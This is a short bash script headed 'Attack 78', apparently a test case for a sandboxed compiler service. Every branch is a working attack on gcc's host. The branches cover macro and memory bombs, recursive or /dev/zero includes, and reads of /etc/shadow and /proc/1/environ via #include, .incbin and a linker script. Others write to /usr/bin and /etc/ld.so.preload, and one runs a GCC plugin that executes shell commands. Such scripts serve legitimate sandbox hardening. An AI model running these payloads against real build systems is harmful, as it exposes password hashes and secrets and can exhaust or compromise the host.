#!/bin/bash
# Attack 78: lets the compiler read, or grow, in the way that the argument names.
cd /tmp || exit 1
compile() {
  cat > bomb.c
  gcc "$@" -o bomb bomb.c 2> messages && echo compiled
  grep -c root: messages
  head -c 300 messages >&2
}
case $1 in
macro)
  {
    echo '#define M0 1+1'
    for n in $(seq 40); do echo "#define M$n M$((n - 1))+M$((n - 1))"; done
    echo 'int x = M40;'
  } | compile -c ;;
memory) echo 'char big[1L << 40] = {1}; int main(void) { return big[0]; }' | compile ;;
recursion) echo '#include "bomb.c"' | compile -c ;;
zero) echo '#include "/dev/zero"' | compile -c ;;
shadow) echo '#include "/etc/shadow"' | compile -c ;;
environ) echo '#include "/proc/1/environ"' | compile -c ;;
incbin) echo 'asm(".incbin \"/etc/shadow\"");' | compile -c ;;
incbin_zero) echo 'asm(".incbin \"/dev/zero\"");' | compile -c ;;
script)
  echo 'INCLUDE /etc/shadow' > script.ld
  echo 'int main(void) { return 0; }' | compile script.ld ;;
output)
  echo 'int main(void) { return 0; }' > bomb.c
  gcc -o /usr/bin/bomb bomb.c 2> /dev/null; gcc -o /etc/ld.so.preload bomb.c 2> /dev/null
  ls /usr/bin/bomb /etc/ld.so.preload 2> /dev/null ;;
plugin)
  # A plugin is a program: it may do what any other may.
  cat > plugin.c <<'END'
int plugin_is_GPL_compatible;
int plugin_init(void *info, void *version) { return system("id -u; unshare -Ur id -u"); }
END
  gcc -w -shared -fPIC -o plugin.so plugin.c
  echo 'int x;' | gcc -w -fplugin=./plugin.so -xc -c -o bomb - 2> /dev/null ;;
esac
exit 0
